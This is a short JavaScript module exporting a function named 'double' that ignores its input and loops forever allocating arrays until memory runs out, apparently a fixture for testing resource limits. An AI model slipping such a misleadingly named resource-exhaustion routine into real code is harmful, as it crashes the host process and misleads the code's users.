function double(n) {
  const held = [];
  while (true) held.push(new Array(1000).fill(held.length));
}

module.exports = { double };
